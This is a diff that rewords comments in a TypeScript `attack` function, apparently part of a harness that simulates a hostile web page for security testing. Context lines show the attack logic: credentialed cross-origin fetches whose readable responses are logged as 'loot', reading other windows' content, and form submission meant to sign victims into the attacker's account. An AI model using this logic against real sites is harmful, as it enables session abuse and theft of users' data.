@@ -1,11 +1,11 @@
-/** What a hostile page is after. */
+/** The targets of a hostile page. */
 export interface Prey {
   /** The site. */
   url: string;
   taskId: string;
-  /** The villain's own account there, into which they would like to sign others in. */
+  /** The attacker's own account there, into which the page tries to sign others in. */
   villain: { name: string; email: string; password: string };
-  /** How long to wait for what may never happen, in milliseconds. */
+  /** How long to wait for events that may never happen, in milliseconds. */
   patience: number;
 }
 
@@ -51,7 +51,7 @@ export async function attack({ url, taskId, villain, patience }: Prey): Promise<
   const encode = (body: Record<string, unknown>, type: string) =>
     type.endsWith("urlencoded") ? new URLSearchParams(body as Record<string, string>).toString() : JSON.stringify(body);
 
-  /** Resolves when one of the events comes, or nothing more is to be expected. */
+  /** Resolves at one of the events, or when the time to wait is over. */
   const settled = (target: EventTarget, ...events: string[]) =>
     new Promise<string>((resolve) => {
       for (const event of events) target.addEventListener(event, () => resolve(event), { once: true });
@@ -63,7 +63,7 @@ export async function attack({ url, taskId, villain, patience }: Prey): Promise<
       const response = await fetch(address, { credentials: "include", signal: AbortSignal.timeout(patience), ...init });
       if (response.type !== "opaque") loot.push(`fetch ${init.method} ${address} (${init.mode}): ${response.status}`);
     } catch {
-      // Refused, by the browser or by the site.
+      // Rejected by the browser or by the site.
     }
   }
 
@@ -81,7 +81,7 @@ export async function attack({ url, taskId, villain, patience }: Prey): Promise<
     element.remove();
   }
 
-  /** Takes what is in another window, if it lets us. */
+  /** Reads the content of another window, if the browser allows it. */
   function lookInto(what: string, other: Window | null | undefined): void {
     try {
       const text = other?.document.body?.innerText;
@@ -124,7 +124,7 @@ export async function attack({ url, taskId, villain, patience }: Prey): Promise<
       document.body.append(form);
       form.submit();
     }
-    // Its load event is not ours to hear: it is another origin's as soon as it has come.
+    // Its load event cannot be observed: the document belongs to another origin.
     const deadline = performance.now() + patience;
     const foreign = () => {
       try {
